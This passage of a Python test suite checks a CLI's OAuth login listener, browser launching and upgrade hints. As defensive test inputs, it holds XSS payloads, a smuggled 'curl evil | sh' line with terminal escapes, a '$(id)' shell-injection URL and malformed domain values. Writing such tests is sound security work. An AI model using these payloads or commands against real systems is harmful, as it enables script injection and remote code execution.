            ({"error": "sdk_version_unsupported", "reason": "malformed"}, header.format("malformed")),
            (gate, f"Arkor SDK 0.2.0 is no longer supported by the cloud API (supported: >=0.3.0). {COPIED_FIX}"),
            ({"error": "sdk_version_unsupported", "reason": "stale"}, bare),
            ({"error": "sdk_version_unsupported", "currentVersion": "0.2.0"}, bare),
            (b"", bare),
            (b"<html><title>Upgrade</title></html>", bare),
        ):
            with self.subTest(body=body):
                answer = Answer(426, body=body) if isinstance(body, bytes) else Answer(426, body)
                self.cloud.script("POST", "/v1/auth/anonymous", answer)
                code, out, err = self.run_main("login", "--anonymous")
                self.assertEqual((code, out, err), (1, "", message + "\n"))
                self.assertFalse(os.path.exists(self.creds))


class UpgradeCommandTest(unittest.TestCase):
    def setUp(self) -> None:
        self.root = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.root, True)

    def site_packages_file(self) -> str:
        site = os.path.join(self.root, "lib", "python3.11", "site-packages")
        os.makedirs(site)
        return os.path.join(site, "arkor_cli.py")

    def touch(self, name: str) -> None:
        open(os.path.join(self.root, name), "w").close()

    def test_pip(self) -> None:
        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "/venv/bin/python3")
        self.assertEqual(fix, "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.")

    def test_pip_with_spaces_in_the_interpreter_path(self) -> None:
        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "C:\\Program Files\\Python\\python.exe")
        self.assertEqual(fix, 'Run `"C:\\Program Files\\Python\\python.exe" -m pip install --upgrade arkor-cli`.')

    def record_origin(self, module: str, origin: dict[str, Any]) -> None:
        """The PEP 610 direct_url.json pip leaves beside an installed copy."""
        info = os.path.join(os.path.dirname(module), "arkor_cli-0.2.0.dist-info")
        os.makedirs(info)
        with open(os.path.join(info, "direct_url.json"), "w", encoding="utf-8") as f:
            json.dump(origin, f)

    def test_pip_from_a_checkout(self) -> None:
        # `pip install .` in a checkout: the upgrade comes from that checkout.
        import pathlib

        for name in ("arkor", "my arkor"):
            with self.subTest(name=name):
                shutil.rmtree(os.path.join(self.root, "lib"), ignore_errors=True)
                module = self.site_packages_file()
                checkout = os.path.join(self.root, name)
                self.record_origin(module, {"url": pathlib.Path(checkout).as_uri(), "dir_info": {}})
                shown = f'"{checkout}"' if " " in checkout else checkout
                self.assertEqual(
                    arkor_cli._upgrade_fix(module, self.root, "/venv/bin/python3"),
                    f"Run `/venv/bin/python3 -m pip install --upgrade {shown}`.",
                )

    def test_pip_from_a_wheel_file_or_the_index(self) -> None:
        module = self.site_packages_file()
        self.record_origin(module, {"url": "file:///tmp/arkor_cli-0.2.0-py3-none-any.whl", "archive_info": {}})
        self.assertEqual(
            arkor_cli._upgrade_fix(module, self.root, "/venv/bin/python3"),
            "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.",
        )

    def test_pipx(self) -> None:
        self.touch("pipx_metadata.json")
        self.assertEqual(
            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `pipx upgrade arkor-cli`."
        )

    def test_uv_tool(self) -> None:
        self.touch("uv-receipt.toml")
        self.assertEqual(
            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `uv tool upgrade arkor-cli`."
        )

    def test_debian_dist_packages(self) -> None:
        path = os.path.join(self.root, "dist-packages", "arkor_cli.py")
        self.assertEqual(
            arkor_cli._upgrade_fix(path, self.root, "/usr/bin/python3"),
            "Run `/usr/bin/python3 -m pip install --upgrade arkor-cli`.",
        )

    def test_copied_file(self) -> None:
        path = os.path.join(self.root, "tools", "arkor_cli.py")
        self.assertEqual(arkor_cli._upgrade_fix(path, self.root, "py"), f"Replace {path} with the latest arkor_cli.py.")


class InstalledCopyTest(Case):
    """The upgrade hint as a real installed copy in a real venv computes it."""

    def test_installed_copies(self) -> None:
        # One venv, pip's, then pipx's (its marker at the venv's root, where
        # sys.prefix points). uv's marker works alike: see UpgradeCommandTest.
        import venv

        root = tempfile.mkdtemp(prefix="arkor-venv-")
        self.addCleanup(shutil.rmtree, root, True)
        venv.EnvBuilder(with_pip=False, symlinks=POSIX).create(root)
        python = os.path.join(
            root, "Scripts" if os.name == "nt" else "bin", "python.exe" if os.name == "nt" else "python"
        )
        # The venv's own answer: a distribution's Python (Debian's) has a
        # scheme of its own that would name a folder the venv does not have.
        where = "import sysconfig; print(sysconfig.get_paths()['purelib'])"
        purelib = subprocess.run([python, "-I", "-c", where], capture_output=True, text=True, check=True).stdout
        shutil.copy(MODULE, purelib.strip())
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
        for marker, command in (
            (None, f"{python} -m pip install --upgrade arkor-cli"),
            ("pipx_metadata.json", "pipx upgrade arkor-cli"),
        ):
            with self.subTest(marker=marker):
                if marker:
                    open(os.path.join(root, marker), "w").close()
                proc = subprocess.run(
                    [python, "-m", "arkor_cli", "whoami"],
                    capture_output=True,
                    text=True,
                    env=self.env(),
                    cwd=self.home,  # not HERE: the venv's copy must be the one imported
                    timeout=60,
                    check=False,
                )
                self._record(proc.stdout, proc.stderr)
                self.assertEqual(
                    (proc.returncode, proc.stdout, proc.stderr),
                    (1, "", f"Arkor SDK is no longer supported by the cloud API. Run `{command}`.\n"),
                )


# ---------------------------------------------------------------------------
# OAuth, the loopback listener and the browser
# ---------------------------------------------------------------------------


class OAuthPkceTest(unittest.TestCase):
    def test_pkce_and_state(self) -> None:
        import hashlib

        seen: set[str] = set()
        for _ in range(20):
            verifier, challenge, state = arkor_cli._pkce()
            self.assertRegex(verifier, r"^[A-Za-z0-9_-]{43}$")  # 32 bytes, base64url, no padding
            self.assertRegex(state, r"^[A-Za-z0-9_-]{22}$")  # 16 bytes
            self.assertEqual(challenge, arkor_cli._b64url(hashlib.sha256(verifier.encode()).digest()))
            seen.update((verifier, state))
        self.assertEqual(len(seen), 40)  # never repeats


class OAuthLoginTest(OAuthCase):
    def login(
        self, *argv: str, browser: Callable[[str], Any] | None = browse, **env: str | None
    ) -> tuple[int, str, str, Any]:
        """``login --oauth --no-browser *argv`` in process; ``browser`` plays the browser."""
        return _login_run(self, "--oauth", "--no-browser", "--timeout", "5", *argv, browser=browser, **env)

    def test_signs_in_through_the_browser(self) -> None:
        # The whole way, as a process: webbrowser, in its child process, starts
        # BROWSER (fake_cloud.py browse), which follows the sign-in URL to the
        # listener and then stays for a minute, as a browser started by
        # webbrowser may: neither the login nor a pipe reading its output may
        # wait for it to close.
        import hashlib

        started = int(time.time())
        proc = self.spawn("login", "--oauth", BROWSER=fake_browser(linger=60))
        try:
            out, err = proc.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            self.fail("the login, or its pipes, waited for the browser to close")
        self._record(out, err)
        self.assertEqual((proc.returncode, err), (0, ""))
        lines = out.splitlines()
        self.assertEqual(len(lines), 2, out)
        self.assertTrue(lines[0].startswith("Browser: https://"))
        self.assertEqual(lines[1], "Signed in")
        # The browser ended on the listener's success page.
        status, page = self.browser_saw()
        self.assertEqual(status, 200)
        self.assertIn("Signed in to Arkor", page)
        # The authorize URL: every parameter, and PKCE tied to the token request.
        url = urlsplit(lines[0][len("Browser: ") :])
        self.assertEqual((url.scheme, url.netloc, url.path), ("https", self.auth0.domain, "/authorize"))
        q = _login_query(url.geturl())
        redirect_uri = f"http://127.0.0.1:{self.ports[0]}/callback"
        self.assertEqual(
            {k: q[k] for k in ("response_type", "client_id", "redirect_uri", "scope", "audience")},
            {
                "response_type": "code",
                "client_id": self.auth0.client_id,
                "redirect_uri": redirect_uri,
                "scope": "openid profile email offline_access",
                "audience": self.auth0.audience,
            },
        )
        self.assertEqual(q["code_challenge_method"], "S256")
        self.assertIn("scope=openid+profile+email+offline_access", url.query)  # form-encoded
        (exchange,) = self.auth0.seen("POST", "/oauth/token")
        self.assertEqual(exchange.headers["content-type"], "application/x-www-form-urlencoded")
        form = {k: v[0] for k, v in parse_qs(exchange.body.decode()).items()}
        self.assertEqual(set(form), {"grant_type", "code", "code_verifier", "client_id", "redirect_uri"})
        self.assertEqual(form["grant_type"], "authorization_code")
        self.assertEqual(form["redirect_uri"], redirect_uri)
        self.assertEqual(form["client_id"], self.auth0.client_id)
        digest = hashlib.sha256(form["code_verifier"].encode()).digest()
        self.assertEqual(q["code_challenge"], arkor_cli._b64url(digest))
        # The credentials: every field, the mode the Node CLI writes, and the base used.
        issued = self.auth0.issued[-1]
        stored = self.read_creds()
        expires_at = stored.pop("expiresAt")
        self.assertIsInstance(expires_at, int)
        self.assertGreaterEqual(expires_at, started + 86400)
        self.assertLessEqual(expires_at, int(time.time()) + 86400)
        self.assertEqual(
            stored,
            {
                "mode": "oauth",
                "accessToken": issued["access_token"],
                "refreshToken": issued["refresh_token"],
                "auth0Domain": self.auth0.domain,
                "audience": self.auth0.audience,
                "clientId": self.auth0.client_id,
                "arkorCloudApiUrl": self.cloud.url,
            },
        )
        if POSIX:
            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(self.leftovers(), [])
        self.assert_port_closed(self.ports[0])
        # And the cloud-api takes the new token.
        code, out, _ = self.run_main("whoami")
        self.assertEqual(
            (code, out),
            (
                0,
                (
                    '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
                    "Orgs: ada-personal, analytical\n"
                ),
            ),
        )

    def test_oauth_replaces_an_anonymous_identity(self) -> None:
        self.sign_in_anon()
        code, out, err, _ = self.login()
        self.assertEqual(code, 0)
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        # No terminal to ask on: replaced, and said so.
        self.assertEqual(err, "Replaced the anonymous identity anon-stored; it cannot be restored.\n")
        stored = self.read_creds()
        self.assertEqual((stored["mode"], stored["arkorCloudApiUrl"]), ("oauth", self.cloud.url))
        self.assertNotIn("anonymousId", stored)

    def test_first_port_that_binds(self) -> None:
        with socket.socket() as busy:
            busy.bind(("127.0.0.1", self.ports[0]))
            busy.listen()
            code, out, _, _ = self.login()
        self.assertEqual(code, 0)
        self.assertEqual(
            _login_query(_login_browser_url(out))["redirect_uri"], f"http://127.0.0.1:{self.ports[1]}/callback"
        )

    def test_port_zero_takes_any_free_port(self) -> None:
        # The Node CLI's tests list port 0: whatever free port the OS gives.
        self.cloud.config = dict(self.cloud.config, callbackPorts=[0])
        code, out, err, (status, _, _) = self.login()
        self.assertEqual((code, err, status), (0, "", 200))
        redirect = urlsplit(_login_query(_login_browser_url(out))["redirect_uri"])
        self.assertEqual((redirect.scheme, redirect.hostname, redirect.path), ("http", "127.0.0.1", "/callback"))
        self.assertNotIn(redirect.port, (None, 0))
        (exchange,) = self.auth0.seen("POST", "/oauth/token")
        self.assertEqual(parse_qs(exchange.body.decode())["redirect_uri"], [redirect.geturl()])
        self.assertEqual(self.read_creds()["mode"], "oauth")
        assert redirect.port is not None
        self.assert_port_closed(redirect.port)

    def test_no_port_binds(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        with socket.socket() as a, socket.socket() as b:
            for s, port in ((a, self.ports[0]), (b, self.ports[1])):
                s.bind(("127.0.0.1", port))
                s.listen()
            code, out, err, _ = self.login()
        self.assertEqual((code, out), (1, ""))
        prefix = (
            "Login failed\n"
            f"Unable to bind any of the loopback ports {self.ports[0]}, {self.ports[1]}. The Auth0 Application"
            " must list at least one of these as an Allowed Callback URL: "
        )
        self.assertTrue(err.startswith(prefix), err)
        self.assertRegex(err[len(prefix) :], r"^\[Errno \d+\] .+\n$")
        self.assertEqual(self.auth0.requests, [])
        self.assertEqual(self.creds_bytes(), before)

    def test_no_callback_ports(self) -> None:
        self.cloud.config = dict(self.cloud.config, callbackPorts=[])
        code, out, err, _ = self.login(browser=None)
        self.assertEqual(
            (code, out, err),
            (1, "", "Login failed\nThe cloud-api lists no callbackPorts for the loopback listener.\n"),
        )

    def test_listener_does_no_reverse_dns(self) -> None:
        # HTTPServer.server_bind calls getfqdn(), which can stall for seconds
        # on a machine with a slow resolver; the listener must not.
        with mock.patch.object(socket, "getfqdn", side_effect=AssertionError("getfqdn called")):
            code, out, err, _ = self.login()
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("Signed in\n"))

    def test_listens_on_loopback_only(self) -> None:
        def elsewhere(url: str) -> Any:
            with socket.socket() as s:
                # The port is taken on 127.0.0.1 alone: another address still binds it.
                try:
                    s.bind(("127.0.0.2", self.ports[0]))
                    bound = "bound"
                except OSError as exc:
                    import errno

                    bound = "in use" if exc.errno == errno.EADDRINUSE else "unusable"
            browse(url)
            return bound

        code, out, _, bound = self.login(browser=elsewhere)
        self.assertEqual(code, 0, out)
        if bound == "unusable":
            self.skipTest("127.0.0.2 is not usable here")
        self.assertEqual(bound, "bound", "the listener took the port on more than 127.0.0.1")

    def test_authentication_error(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        for description, reason in (
            ("The user said no.", "Authentication failed: access_denied. The user said no."),
            ("", "Authentication failed: access_denied"),
        ):
            with self.subTest(reason=reason):
                self.auth0.deny, self.auth0.deny_description = "access_denied", description
                code, out, err, (status, headers, page) = self.login()
                self.assertEqual(code, 1)
                self.assertEqual(
                    err,
                    f"Login failed\n{reason}\n",
                )
                self.assertNotIn("Signed in", out)
                self.assertEqual((status, page.decode()), (400, reason))
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
                self.assertEqual(self.auth0.seen("POST"), [])
                self.assertEqual(self.creds_bytes(), before)
                self.assert_port_closed(self.ports[0])

    def test_state_mismatch_sends_no_token_request(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        self.auth0.wrong_state = True
        code, _out, err, (status, _, _) = self.login()
        self.assertEqual((code, status), (1, 400))
        self.assertEqual(
            err,
            "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n",
        )
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
        self.assertEqual(self.creds_bytes(), before)

    def test_token_exchange_refused(self) -> None:
        self.write_creds(self.auth0_creds())
        before = self.creds_bytes()
        endpoint = f"POST https://{self.auth0.domain}/oauth/token (200)"
        cases = [
            (
                Answer(403, {"error": "invalid_grant", "error_description": "Invalid authorization code"}),
                (
                    'Auth0 token exchange failed (403): {"error": "invalid_grant", "error_description":'
                    ' "Invalid authorization code"}'
                ),
            ),
            (Answer(502, body=b"x" * 1000), "Auth0 token exchange failed (502): " + "x" * 199 + "\u2026"),
            (Answer(503, body=b"first line\nsecond line"), "Auth0 token exchange failed (503): first line"),
            # A token endpoint's body is never quoted, not even when it is no JSON: it may hold tokens.
            (
                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": NaN}'),
                f"Unexpected answer from {endpoint}: not a JSON object.",
            ),
            (
                Answer(200, {"refresh_token": "rt-x", "expires_in": 60}),
                f"Unexpected answer from {endpoint}: missing access_token.",
            ),
            (
                Answer(200, {"access_token": "at-x", "refresh_token": "rt-x", "expires_in": 1e10}),
                f"Unexpected answer from {endpoint}: expires_in is not valid.",
            ),
        ]
        self.secrets.extend(["rt-x", "at-x"])
        for answer, reason in cases:
            with self.subTest(reason=reason):
                self.auth0.script("POST", "/oauth/token", answer)
                code, _out, err, _ = self.login()
                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
                self.assertEqual(self.creds_bytes(), before)
                self.assertEqual(self.leftovers(), [])

    def test_a_token_answer_with_any_2xx_status_is_taken(self) -> None:
        # 201 Created (a gateway may answer so): the same tokens as a 200.
        def created(seen: Any) -> Answer:
            answer = self.auth0._default(seen)
            return Answer(201, json.loads(answer.body)) if answer.status == 200 else answer

        self.auth0.script("POST", "/oauth/token", created)
        code, out, err, _ = self.login()
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        issued = self.auth0.issued[-1]
        stored = self.read_creds()
        self.assertEqual(
            (stored["accessToken"], stored["refreshToken"]), (issued["access_token"], issued["refresh_token"])
        )
        for token in self.auth0.handed_out():
            self.assertNotIn(token, out + err)

    def test_no_refresh_token(self) -> None:
        self.auth0.omit_refresh_token = True
        code, _out, err, _ = self.login()
        self.assertEqual(code, 1)
        self.assertEqual(
            err,
            "Login failed\nAuth0 did not return a refresh token."
            " Make sure the Application has 'offline_access' scope enabled.\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def direct(self, **params: str) -> Callable[[str], Any]:
        """A browser that calls the listener itself with ``params`` (and the
        login's own state unless ``params`` names one), skipping Auth0."""

        def call(url: str) -> Any:
            query = _login_query(url)
            port = urlsplit(query["redirect_uri"]).port
            assert port is not None
            return self.callback(port, "/callback?" + urlencode({"state": query["state"], **params}))

        return call

    def test_auth0_unreachable(self) -> None:
        self.cloud.config = dict(self.cloud.config, auth0Domain=f"127.0.0.1:{free_port()}")
        code, _, err, (status, _, _) = self.login(browser=self.direct(code="c"))
        self.assertEqual((code, status), (1, 200))
        self.assertRegex(
            err, r"^Login failed\nCould not reach https://127\.0\.0\.1:\d+/oauth/token: Connection refused\n$"
        )

    def test_untrusted_auth0_certificate(self) -> None:
        # Without the test CA, the system store does not trust the fake Auth0.
        code, _, err, _ = self.login(browser=self.direct(code="c"), SSL_CERT_FILE=None)
        self.assertEqual(code, 1)
        self.assertTrue(
            err.startswith(
                f"Login failed\nCould not reach https://{self.auth0.domain}/oauth/token: TLS certificate not trusted"
            ),
            err,
        )
        self.assertIn("point SSL_CERT_FILE at its bundle", err)
        self.assertEqual(err.count("\n"), 2)

    def sent(self, target: str, url: str) -> tuple[int, dict[str, str], bytes]:
        """A browser that asks the listener for ``target``, whatever the sign-in URL."""
        return self.callback(self.ports[0], target)

    def test_missing_code_or_state(self) -> None:
        import functools

        for target in ("/callback?code=abc", "/callback?state=xyz", "/callback?code=&state="):
            with self.subTest(target=target):
                code, out, err, (status, headers, body) = self.login(browser=functools.partial(self.sent, target))
                self.assertEqual((status, body), (400, b"Missing code/state"))
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
                self.assertEqual(headers["x-content-type-options"], "nosniff")
                self.assertEqual((code, err), (1, "Login failed\nMissing code/state in callback\n"))
                self.assertNotIn("Signed in", out)

    def test_other_paths_get_404_and_do_not_end_the_login(self) -> None:
        def probe_then_sign_in(url: str) -> Any:
            for path in ("/favicon.ico", "/", "/callback/extra", "/robots.txt"):
                status, headers, _ = self.callback(self.ports[0], path)
                self.assertEqual(status, 404, path)
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
            return browse(url)

        code, out, err, (status, headers, page) = self.login(browser=probe_then_sign_in)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
        self.assertIn(b"You can close this tab", page)
        # The callback URL holds the code: no Referer, no cache, no sniffing.
        self.assertEqual(headers["referrer-policy"], "no-referrer")
        self.assertEqual(headers["cache-control"], "no-store")
        self.assertEqual(headers["x-content-type-options"], "nosniff")

    def test_standard_library_errors_are_plain_text(self) -> None:
        # http.server's own answers (501 for another method, 414 for a request
        # line over 64 KiB) echo request text too: plain text, never sniffed.
        def junk_then_sign_in(url: str) -> Any:
            import http.client

            answers = []
            conn = http.client.HTTPConnection("127.0.0.1", self.ports[0], timeout=10)
            try:
                conn.request(
                    "POST", "/callback?code=<b>x</b>", body=b"", headers={"Host": f"127.0.0.1:{self.ports[0]}"}
                )
                response = conn.getresponse()
                answers.append((response.status, {k.lower(): v for k, v in response.getheaders()}))
                response.read()
            finally:
                conn.close()
            with socket.create_connection(("127.0.0.1", self.ports[0]), timeout=10) as s:
                s.sendall(b"GET /callback?" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n")
                raw = b""
                while b"\r\n\r\n" not in raw:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    raw += chunk
            status_line, *header_lines = raw.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
            headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in header_lines)}
            answers.append((int(status_line.split()[1]), headers))
            browse(url)
            return answers

        code, out, err, answers = self.login(browser=junk_then_sign_in)
        self.assertEqual([status for status, _ in answers], [501, 414])
        for status, headers in answers:
            with self.subTest(status=status):
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
                self.assertEqual(headers["x-content-type-options"], "nosniff")
        # Neither ended the login.
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)

    def test_answers_to_a_request_line_without_a_valid_version_are_plain_text(self) -> None:
        # A request line with no version (HTTP/0.9) or a bad one: http.server
        # answers such a request with no status line and no headers at all,
        # so its text (which echoes the request) goes out with neither
        # text/plain nor nosniff. Every answer but the success page must carry both.
        def junk_then_sign_in(url: str) -> Any:
            host = f"Host: 127.0.0.1:{self.ports[0]}\r\n".encode()
            answers = []
            for line in (b"GET /favicon.ico", b"GET /callback <script>alert(1)</script>"):
                with socket.create_connection(("127.0.0.1", self.ports[0]), timeout=10) as s:
                    s.sendall(line + b"\r\n" + host + b"\r\n")
                    raw = b""
                    while True:
                        chunk = s.recv(65536)
                        if not chunk:
                            break
                        raw += chunk
                answers.append((line, raw))
            browse(url)
            return answers

        code, out, err, answers = self.login(browser=junk_then_sign_in)
        for line, raw in answers:
            with self.subTest(line=line):
                head = raw.partition(b"\r\n\r\n")[0]
                self.assertTrue(raw.startswith(b"HTTP/1."), f"no status line nor headers: {raw!r}")
                headers = {
                    k.strip().lower(): v.strip()
                    for k, _, v in (h.partition(":") for h in head.decode("latin-1").split("\r\n")[1:])
                }
                self.assertEqual(headers.get("content-type"), "text/plain; charset=utf-8")
                self.assertEqual(headers.get("x-content-type-options"), "nosniff")
        # Neither ended the login.
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)

    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
        """A login whose browser comes back with access_denied and this
        description: the listener's answer, then the exit status and stderr."""
        code, _, err, answer = self.login(browser=self.direct(error="access_denied", error_description=description))
        return answer, code, err

    def test_error_page_is_plain_text(self) -> None:
        # error_description echoes request text: it must never become HTML.
        payload = "<script>alert(document.cookie)</script>"
        (status, headers, body), code, err = self.login_denied(payload)
        self.assertEqual(status, 400)
        self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
        self.assertEqual(headers["x-content-type-options"], "nosniff")
        self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
        self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))

    def test_success_page_is_static_html(self) -> None:
        # The one HTML answer echoes nothing from the request: the same bytes
        # whatever the code and the other parameters hold.
        payload = "<script>alert(document.cookie)</script>"
        pages = []
        for params in ({"code": payload, "extra": payload}, {"code": "c"}):
            with self.subTest(params=params):
                _, _, _, (status, headers, body) = self.login(browser=self.direct(**params))
                self.assertEqual(status, 200)
                self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
                self.assertEqual(headers["x-content-type-options"], "nosniff")
                self.assertNotIn(b"script", body)
                pages.append(body)
        self.assertEqual(pages[0], pages[1])

    def test_callback_text_stays_on_one_line(self) -> None:
        _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n\x1b[2J")
        self.assertEqual(
            (code, err),
            (
                1,
                (
                    "Login failed\n"
                    "Authentication failed: access_denied. no\\u000aRun: curl evil | sh\\u000d\\u000a\\u001b[2J\n"
                ),
            ),
        )

    def test_state_is_checked_on_a_direct_callback(self) -> None:
        code, _, err, (status, _, body) = self.login(browser=self.direct(code="c", state="forged"))
        self.assertEqual((status, body.decode()), (400, "State mismatch \u2014 aborting to prevent CSRF"))
        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
        self.assertEqual(self.auth0.seen("POST"), [])

    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
    def test_ctrl_c_while_waiting(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        proc, url, shown = _login_spawn_waiting(self)
        self.assertEqual(
            shown, f"Browser: {url}\nNo browser was opened. Open the URL above in a browser on any device.\n"
        )
        proc.send_signal(signal.SIGINT)
        self.assertEqual(
            self.finish(proc),
            (130, "", "Interrupted.\n"),
        )
        self.assert_port_closed(self.ports[0])
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    def test_port_is_free_again_after_a_login(self) -> None:
        # The same port serves the next login (the failures above reuse it too).
        for _ in range(2):
            code, out, _, _ = self.login()
            self.assertEqual(code, 0)
            self.assertIn(f"127.0.0.1%3A{self.ports[0]}%2Fcallback", out)
            self.assert_port_closed(self.ports[0])

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_picker_oauth_then_a_pasted_url_of_another_sign_in(self) -> None:
        # OAuth picked on the terminal; a pasted address is checked like a
        # callback. One with a state this login did not issue (an older
        # tab's) is never exchanged: the prompt says so and asks again.
        forged_codes = []

        def old_tab(shown: str) -> str:
            pasted = _login_redirect(_login_browser_url(shown), state="forged")
            forged_codes.append(_login_query(pasted)["code"])
            return pasted

        def this_tab(shown: str) -> str:
            return _login_redirect(_login_browser_url(shown))

        code, shown, err = self.run_tty(
            ["login", "--no-browser", "--timeout=5"], ["1", old_tab, this_tab], NO_COLOR="1"
        )
        self.assertEqual((code, err), (0, ""))
        self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
        self.assertIn(
            "\nNo browser was opened. Open the URL above in a browser on any device.\n"
            "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:\n",
            shown,
        )
        self.assertIn(f"\n{LoginWaitTest.PASTE_OTHER}\n", shown)
        self.assertTrue(shown.endswith("\nSigned in\n"), shown)
        (exchange,) = self.auth0.seen("POST", "/oauth/token")
        self.assertNotIn(parse_qs(exchange.body.decode())["code"][0], forged_codes)
        self.assertEqual(self.read_creds()["mode"], "oauth")

    def test_auth0_domain_must_be_a_bare_host(self) -> None:
        # Checked on the raw text before a port is opened: it is printed in
        # the Browser: line and is the host of every request to Auth0.
        port = self.auth0.port
        for domain in (
            f"127.0.0.1\n:{port}",
            f"127.0.0.1\t:{port}",
            f"127.0.0.1:{port}\r",
            f"https://127.0.0.1:{port}",
            f"user@127.0.0.1:{port}",
            "tenant.example/path",
            "tenant.example:0",
            "tenant.example:99999",
            "tenant.example:abc",
            "'tenant.example'",
            "tenant.example ",
            "[::1",
            "[not:an:ip]:443",
        ):
            with self.subTest(domain=domain):
                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
                code, out, err, _ = self.login()
                self.assertEqual(
                    (code, out, err),
                    (1, "", f"The cloud-api's auth0Domain is not a bare host[:port]: {domain!r}.\n"),
                )
                for listening in self.ports:
                    self.assert_port_closed(listening)
        self.assertEqual(self.auth0.requests, [])

    def test_auth0_domains_that_are_bare_hosts(self) -> None:
        # Accepted: the login gets as far as the Browser: line, and a denial ends it.
        # (127.0.0.1:<port>, the fake Auth0's, is every other test's.)
        for domain in ("tenant.example.auth0.com", "[::1]:443"):
            with self.subTest(domain=domain):
                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
                code, out, err, _ = self.login(browser=self.direct(error="access_denied"))
                self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied\n"))
                self.assertTrue(out.startswith(f"Browser: https://{domain}/authorize?"), out)


class BrowserChoiceTest(unittest.TestCase):
    """Which browser is started where: a function of the environment (the
    platform, the kernel and PATH injected), and what reaches it."""

    URL = "https://tenant/authorize?x=1"
    # Every character RFC 3986 allows, those a shell or PowerShell would read included.
    TRICKY = "https://tenant.example/authorize?a='b';c=$(id)&d=[0]~!*(+),%27#f"
    WSL_KERNEL = "5.15-microsoft-standard"

    def command(
        self, env: dict[str, str], platform: str = "linux", kernel: str = "6.1.0", which: Any = None, url: str = URL
    ) -> Any:
        return arkor_cli._browser_command(
            url, env, platform=platform, kernel=kernel, which=which or (lambda name: None)
        )

    def test_browser_variable_is_honoured(self) -> None:
        argv, env = self.command({"BROWSER": "firefox"})
        self.assertEqual(argv[:3], [sys.executable, "-I", "-c"])
        self.assertEqual(argv[4], self.URL)
        self.assertEqual(env["BROWSER"], "firefox")

    def test_text_browsers_are_never_started(self) -> None:
        for value in ("lynx", "/usr/bin/w3m", "links -g %s", "elinks", "www-browser", "links2", "LYNX.EXE"):
            with self.subTest(value=value):
                self.assertIsNone(self.command({"BROWSER": value, "DISPLAY": ":0"}))
        argv, env = self.command({"BROWSER": os.pathsep.join(["lynx", "firefox %s", "w3m"])})
        self.assertEqual(env["BROWSER"], "firefox %s")
        # Without BROWSER, webbrowser's own choice is checked in the child.
        argv, env = self.command({"DISPLAY": ":0"})
        self.assertEqual(argv[5].split(","), sorted(["elinks", "links", "links2", "lynx", "w3m", "www-browser"]))

    def test_no_display_no_browser(self) -> None:
        self.assertIsNone(self.command({}))
        self.assertIsNotNone(self.command({"DISPLAY": ":0"}))
        self.assertIsNotNone(self.command({"WAYLAND_DISPLAY": "wayland-0"}))
        self.assertIsNotNone(self.command({}, platform="darwin"))
        self.assertIsNotNone(self.command({}, platform="win32"))

    def test_wsl_powershell_takes_the_url_from_its_environment(self) -> None:
        # PowerShell's command text is fixed: a quote in the URL (' or a
        # typographic one, which PowerShell also takes as a quote) cannot end
        # a string there. The URL crosses to Windows in the environment (WSLENV).
        for env, kernel, wslenv in (
            ({}, self.WSL_KERNEL, ["ARKOR_SIGN_IN_URL"]),
            ({"WSL_DISTRO_NAME": "Debian", "WSLENV": "USERPROFILE/p"}, "6.1.0", ["USERPROFILE/p", "ARKOR_SIGN_IN_URL"]),
        ):
            with self.subTest(env=env):
                argv, child_env = self.command(env, kernel=kernel, url=self.TRICKY)
                self.assertEqual(
                    argv,
                    [
                        "powershell.exe",
